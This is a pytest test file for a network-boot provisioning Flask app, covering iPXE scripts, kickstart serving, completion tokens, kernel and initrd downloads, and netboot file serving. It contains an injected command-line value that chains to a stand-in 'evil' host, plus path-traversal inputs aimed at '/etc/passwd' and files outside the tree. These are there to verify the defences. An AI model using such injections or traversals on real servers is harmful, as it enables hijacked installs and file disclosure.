"""The provisioning-network Flask app, through Flask's test client (no sockets)."""

from __future__ import annotations

import dataclasses
import logging
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from appliance.bootscripts import BootScripts
from appliance.config import Config, DhcpConfig
from appliance.events import EventLog
from appliance.kickstart import Renderer
from appliance.model import Distro, Firmware, Host, Lease, Profile
from appliance.policy import BootPolicy
from appliance.sandbox_inline import InlineSandbox
from appliance.store import Store
from appliance.templates import TemplateLibrary
from appliance.web import Services, create_app
from appliance.web.boot import firmware_from_args

MAC = "52:54:00:aa:bb:01"
HOST_IP = "10.0.0.50"
KERNEL = bytes(range(256)) * 40  # 10240 bytes, every offset distinguishable
INITRD = b"initrd-bytes" * 100
CMDLINE = "console=ttyS0 ks={{ ks_url }} done={{ done_url }}"


@pytest.fixture
def env(tmp_path):
    (tmp_path / "vmlinuz").write_bytes(KERNEL)
    (tmp_path / "initrd.gz").write_bytes(INITRD)
    ks_dir = tmp_path / "kickstarts"
    ks_dir.mkdir()
    (ks_dir / "test.ks").write_text("# ks for {{ host.mac }}\n")
    (ks_dir / "broken.ks").write_text("{{ no_such_name }}\n")
    netboot = tmp_path / "netboot"
    (netboot / "ipxe").mkdir(parents=True)
    (netboot / "ipxe" / "undionly.kpxe").write_bytes(b"UNDI" * 64)
    (netboot / "alias.kpxe").symlink_to(netboot / "ipxe" / "undionly.kpxe")
    (tmp_path / "secret.txt").write_text("outside the tree\n")
    (netboot / "escape").symlink_to(tmp_path / "secret.txt")
    (netboot / "escape-dir").symlink_to(tmp_path)

    config = dataclasses.replace(
        Config(), address="10.0.0.1", state_dir=tmp_path, netboot_dir=netboot,
        kickstarts_dir=ks_dir, dhcp=DhcpConfig(unknown="ignore"))
    store = Store(tmp_path / "db").open()
    store.add_distro(Distro("deb12", str(tmp_path / "vmlinuz"), str(tmp_path / "initrd.gz")))
    store.add_profile(Profile("deb12", "deb12", "test.ks", CMDLINE))
    host = store.add_host(Host(MAC, "deb12", ip=HOST_IP), token_ttl=3600)
    renderer = Renderer(InlineSandbox(), TemplateLibrary(store, ks_dir))
    services = Services(config=config, store=store,
                        policy=BootPolicy(store, config, renderer),
                        events=EventLog(store), scripts=BootScripts(config.templates_dir),
                        renderer=renderer)
    app = create_app(services)
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = HOST_IP
    yield SimpleNamespace(app=app, client=client, store=store, token=host.token,
                          tmp=tmp_path, config=config)
    store.close()


def kinds(env, mac=MAC):
    return [(e.kind, e.detail) for e in env.store.events(mac)]


# -- boot script ---------------------------------------------------------------
def test_install_script_for_netboot_host(env):
    r = env.client.get(f"/boot/{MAC}.ipxe")
    assert r.status_code == 200
    assert r.mimetype == "text/plain" and r.headers["Cache-Control"] == "no-store"
    body = r.get_data(as_text=True)
    assert body.startswith("#!ipxe\n")
    assert ("kernel http://10.0.0.1/distro/deb12/kernel initrd=initrd console=ttyS0 "
            f"ks=http://10.0.0.1/ks/{env.token} done=http://10.0.0.1/done/{env.token}") in body
    assert "initrd --name initrd http://10.0.0.1/distro/deb12/initrd" in body
    assert kinds(env) == [("http-script", "install deb12")]


def test_script_accepts_any_mac_spelling_and_ipxe_args(env):
    r = env.client.get("/boot/52-54-00-AA-BB-01.ipxe?platform=efi&buildarch=x86_64")
    assert r.status_code == 200 and env.token in r.get_data(as_text=True)


def test_unknown_mac_404_and_junk_mac_400(env):
    assert env.client.get("/boot/52:54:00:00:00:99.ipxe").status_code == 404
    assert env.client.get("/boot/not-a-mac.ipxe").status_code == 400
    assert env.client.get("/boot/52:54:00:aa:bb:01:ff.ipxe").status_code == 400
    assert env.store.events() == []


def test_unsafe_cmdline_is_500_not_an_injected_script(env):
    env.store.add_profile(Profile("deb12", "deb12", "test.ks", "a || chain http://evil/x"))
    r = env.client.get(f"/boot/{MAC}.ipxe")
    assert r.status_code == 500 and b"evil" not in r.data


@pytest.mark.parametrize("args, firmware", [
    ({}, Firmware.BIOS),
    ({"platform": "pcbios", "buildarch": "i386"}, Firmware.BIOS),
    ({"platform": "efi", "buildarch": "x86_64"}, Firmware.EFI_X64),
    ({"platform": "efi", "buildarch": "i386"}, Firmware.EFI_IA32),
    ({"platform": "efi", "arch": "arm64"}, Firmware.EFI_ARM64),
    ({"platform": "efi", "buildarch": "sparc"}, Firmware.UNKNOWN),
])
def test_firmware_from_ipxe_args(args, firmware):
    assert firmware_from_args(args) is firmware


# -- kickstart and completion ------------------------------------------------------
def test_kickstart_renders_for_its_host(env):
    r = env.client.get(f"/ks/{env.token}")
    assert r.status_code == 200
    assert r.get_data(as_text=True) == f"# ks for {MAC}\n"
    assert r.headers["Cache-Control"] == "no-store"
    assert ("kickstart", "test.ks") in kinds(env)


def test_wrong_token_is_404_and_not_logged(env, caplog):
    caplog.set_level(logging.INFO, logger="plowshare")
    bogus = "x" * 32
    for url in (f"/ks/{bogus}", f"/done/{bogus}"):
        r = env.client.get(url)
        assert r.status_code == 404 and bogus.encode() not in r.data
    assert bogus not in caplog.text and MAC in caplog.text


def test_profile_without_template_404_broken_template_500(env):
    env.store.add_profile(Profile("deb12", "deb12", None, CMDLINE))
    assert env.client.get(f"/ks/{env.token}").status_code == 404
    env.store.add_profile(Profile("deb12", "deb12", "broken.ks", CMDLINE))
    r = env.client.get(f"/ks/{env.token}")
    assert r.status_code == 500 and b"no_such_name" not in r.data
    assert kinds(env)[-1][0] == "kickstart-error"


def test_kickstart_that_renders_invalid_for_this_host_is_not_served(env):
    """Validated before it is served: a host variable breaks the kickstart."""
    ks_dir = Path(env.store.path).parent / "kickstarts"  # the fixture's kickstarts_dir
    (ks_dir / "vars.ks").write_text("text\n{{ extra | default('') }}\n")
    env.store.add_profile(Profile("deb12", "deb12", "vars.ks", CMDLINE))
    assert env.client.get(f"/ks/{env.token}").status_code == 200
    env.store.add_host(Host(MAC, "deb12", ip=HOST_IP, variables={"extra": "bogus --flag"}),
                       token_ttl=3600)
    token = env.store.host(MAC).token
    r = env.client.get(f"/ks/{token}")
    assert r.status_code == 500 and b"bogus" not in r.data
    kind, detail = kinds(env)[-1]
    assert kind == "kickstart-invalid" and "line 2" in detail


def test_done_is_single_use_and_turns_netboot_off(env):
    assert env.client.head(f"/done/{env.token}").status_code == 200  # a probe spends nothing
    r = env.client.get(f"/done/{env.token}")
    assert r.status_code == 200 and r.data == b"ok\n"
    assert env.store.host(MAC).netboot is False
    assert env.client.get(f"/done/{env.token}").status_code == 404
    assert env.client.post(f"/done/{env.token}").status_code == 404
    assert env.client.get(f"/ks/{env.token}").status_code == 404
    body = env.client.get(f"/boot/{MAC}.ipxe").get_data(as_text=True)
    assert "sanboot --no-describe --drive 0x80" in body and "kernel" not in body
    assert [k for k, _ in kinds(env)] == ["install-done", "http-script"]
    assert kinds(env)[-1] == ("http-script", "local")


def test_done_by_post(env):
    assert env.client.post(f"/done/{env.token}").status_code == 200


# -- kernel / initrd -------------------------------------------------------------
def test_kernel_range_request(env):
    r = env.client.get("/distro/deb12/kernel", headers={"Range": "bytes=0-99"})
    assert r.status_code == 206 and r.data == KERNEL[:100]
    r = env.client.get("/distro/deb12/kernel", headers={"Range": "bytes=100-199"})
    assert r.status_code == 206
    assert r.data == KERNEL[100:200]
    assert r.headers["Content-Range"] == f"bytes 100-199/{len(KERNEL)}"
    r = env.client.get("/distro/deb12/kernel", headers={"Range": "bytes=200-"})
    assert r.status_code == 206 and r.data == KERNEL[200:]
    # a download is one event, not one per range
    assert kinds(env) == [("http-kernel", "deb12")]


def test_initrd_whole_and_head(env):
    r = env.client.get("/distro/deb12/initrd")
    assert r.status_code == 200 and r.data == INITRD
    assert r.headers["Accept-Ranges"] == "bytes"
    r = env.client.head("/distro/deb12/initrd")
    assert r.status_code == 200 and r.data == b""
    assert int(r.headers["Content-Length"]) == len(INITRD)
    assert kinds(env) == [("http-initrd", "deb12")]


def test_kernel_to_unknown_client_has_no_event(env):
    r = env.client.get("/distro/deb12/kernel", environ_base={"REMOTE_ADDR": "10.9.9.9"})
    assert r.status_code == 200 and r.data == KERNEL
    assert env.store.events() == []


def test_unknown_distro_or_missing_file_404(env):
    assert env.client.get("/distro/nope/kernel").status_code == 404
    assert env.client.get("/distro/deb12/config").status_code == 404
    (env.tmp / "initrd.gz").unlink()
    assert env.client.get("/distro/deb12/initrd").status_code == 404


def test_mac_for_ip(env):
    now = time.time()
    assert env.store.mac_for_ip(HOST_IP) == MAC
    env.store.put_lease(Lease("52:54:00:aa:bb:02", "10.0.0.101", now + 600))
    assert env.store.mac_for_ip("10.0.0.101") == "52:54:00:aa:bb:02"
    env.store.put_lease(Lease("52:54:00:aa:bb:03", "10.0.0.102", now - 1))
    assert env.store.mac_for_ip("10.0.0.102") is None
    assert env.store.mac_for_ip(None) is None


# -- netboot tree -------------------------------------------------------------------
def test_netboot_file_and_inside_symlink(env):
    r = env.client.get("/netboot/ipxe/undionly.kpxe", headers={"Range": "bytes=0-3"})
    assert r.status_code == 206 and r.data == b"UNDI"
    assert env.client.get("/netboot/alias.kpxe").status_code == 200
    assert ("http-file", "ipxe/undionly.kpxe") in kinds(env)


@pytest.mark.parametrize("path", [
    "/netboot/../secret.txt", "/netboot/%2e%2e/secret.txt", "/netboot/ipxe/../../secret.txt",
    "/netboot/escape", "/netboot/escape-dir/secret.txt", "/netboot/ipxe",
    "/netboot/nope", "/netboot//etc/passwd", "/netboot/..\\secret.txt",
])
def test_netboot_refuses_escapes_dirs_and_missing(env, path):
    r = env.client.get(path, follow_redirects=True)  # "//" -> 308 to a path in the tree
    assert r.status_code == 404, path
    assert b"outside the tree" not in r.data


# -- loader configs over HTTP and health ---------------------------------------------
def test_pxelinux_and_grub_configs(env):
    r = env.client.get("/pxelinux.cfg/01-52-54-00-aa-bb-01")
    assert r.status_code == 200
    assert "KERNEL http://10.0.0.1/distro/deb12/kernel" in r.get_data(as_text=True)
    assert env.client.get("/pxelinux.cfg/default").status_code == 404
    assert env.client.get("/pxelinux.cfg/0A000032").status_code == 404
    for name in (MAC, "01-52-54-00-aa-bb-01"):  # the second is BootFiles' TFTP spelling
        r = env.client.get(f"/grub/grub.cfg-{name}")
        assert r.status_code == 200
        assert "linux /distro/deb12/kernel" in r.get_data(as_text=True)
    r = env.client.get("/grub/grub.cfg")  # the top level an HTTP-booted GRUB reads
    assert r.status_code == 200 and 'source "$prefix/grub.cfg-01-' in r.get_data(as_text=True)


def test_healthz_and_plain_errors(env):
    r = env.client.get("/healthz")
    assert r.status_code == 200 and r.data == b"ok\n"
    r = env.client.get("/no/such/thing")
    assert r.status_code == 404 and r.mimetype == "text/plain"
